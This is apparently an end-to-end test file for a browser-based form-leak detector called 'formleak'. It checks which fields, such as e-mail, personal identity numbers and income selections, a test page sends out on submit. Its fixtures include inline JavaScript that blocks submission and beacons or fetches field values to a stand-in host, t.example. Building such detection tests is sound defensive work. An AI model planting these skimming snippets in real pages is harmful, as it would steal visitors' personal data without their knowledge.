// What the made-up person types and chooses: the built program in a real browser.
#include <doctest/doctest.h>

#include <set>

#include "tests/e2e/visited.h"

using namespace formleak;
using namespace formleak::test;

namespace {

// At submit the value of each field named in `names` goes out under a name that says nothing.
std::string sends(const std::string& names) {
    return "<script>document.forms[0].onsubmit=e=>{e.preventDefault();for(const n of '" + names +
           "'.split(' '))navigator.sendBeacon('https://t.example/e',e.target[n].value)}</script>";
}

}  // namespace

TEST_CASE("filling: two persons in one form have values of their own; who repeats an address has the same") {
    Site site;
    site.page("/", page_of("<form action=/s method=post><fieldset><legend>Du</legend><label>E-post <input "
                           "type=email name=email1></label><label>Personnummer <input name=pnr1></label>"
                           "</fieldset><fieldset><legend>Medsökande</legend><label>E-post <input type=email "
                           "name=email2></label><label>Personnummer <input name=pnr2></label></fieldset>"
                           "<button>Skicka</button></form>" +
                           sends("email2 pnr2")));
    CHECK(seen_leaving(verify(site).report) == std::set<std::string>{"email2", "pnr2"});
    Site again;
    again.page("/", page_of("<form action=/s method=post><label>E-post <input type=email name=a></label>"
                            "<label>Upprepa e-post <input type=email name=b></label><button>Skicka</button>"
                            "</form><script>document.forms[0].onsubmit=e=>{e.preventDefault();const f="
                            "e.target;if(f.a.value===f.b.value)navigator.sendBeacon('https://t.example/e',"
                            "f.a.value)}</script>"));
    CHECK(seen_leaving(verify(again).report) == std::set<std::string>{"a"});
}

TEST_CASE("filling: of a list a line is chosen that says something") {
    struct List {
        const char* options;
        const char* chosen;
    };
    static const List kLists[] = {
        {"<option>Välj inkomst<option>0-100 tkr<option>100-200 tkr", "0-100 tkr"},
        {"<option value=0>Please select<option value=1>0-100k<option value=2>100-200k", "1"},
        {"<option value='-1'>-- Välj --<option value=m>Man<option value=k>Kvinna", "m"},
        {"<option value=bitte>Bitte wählen<option>männlich<option>weiblich", "männlich"},
        {"<option value=0>Inkomst<option value=7>Hög<option value=8>Låg", "7"},
        {"<option>Måned<option>01<option>02", "01"},
        {"<option>Wybierz…<option>tak<option>nie", "tak"},
        {"<option>Maak een keuze<option>hoog<option>laag", "hoog"},
        {"<option>Seleziona il reddito<option>alto<option>basso", "alto"},
        {"<option>Selecione a renda<option>alta<option>baixa", "alta"},
        {"<option>Velg inntekt<option>høy<option>lav", "høy"},
        {"<option>Valitse tulot<option>suuret<option>pienet", "suuret"},
        {"<option>Sélectionnez<option>haut<option>bas", "haut"},
        {"<option>Elija una opción<option>alto<option>bajo", "alto"},
        {"<option>Vill ej uppge<option>Kvinna<option>Man", "Kvinna"},
        {"<option value=0>Ingen inkomst<option value=1>Välbetald", "1"},
        {"<option>Seglare<option>Selektor", "Seglare"},
        {"<option>Selectra AB<option>Bitterfeld", "Selectra AB"}};
    std::string fields;
    for (std::size_t i = 0; i < std::size(kLists); ++i)
        fields += "<p><label>Inkomst <select name=inkomst" + std::to_string(i) + ">" + kLists[i].options +
                  "</select></label></p>";
    Site site;
    site.page("/", page_of("<form action=/s method=post>" + fields +
                           "<button>Skicka</button></form><script>document.forms[0].onsubmit=e=>{"
                           "e.preventDefault();fetch('https://t.example/?'+new URLSearchParams(new "
                           "FormData(e.target)))}</script>"));
    const Scanned visit = verify(site);
    std::map<std::string, std::string> chosen;
    for (const Json& leak : visit.report["leaks"].items())
        chosen[leak["field_name"].as_text()] = leak["normalised"].as_text();
    for (std::size_t i = 0; i < std::size(kLists); ++i) {
        CAPTURE(std::string(kLists[i].options));
        CHECK(chosen["inkomst" + std::to_string(i)] == kLists[i].chosen);
    }
}

TEST_CASE("filling: a list that offers nothing else is left alone, and nothing is said of it") {
    Site site;
    site.page("/", page_of("<form action=/s method=post><label>Inkomst <select name=inkomst><option>Välj "
                           "inkomst</select></label><label>E-post <input name=epost></label><button>Skicka"
                           "</button></form><script>document.forms[0].onsubmit=e=>{e.preventDefault();"
                           "fetch('https://t.example/?'+new URLSearchParams(new FormData(e.target)))}"
                           "</script>"));
    CHECK(seen_leaving(verify(site).report) == std::set<std::string>{"epost"});
}
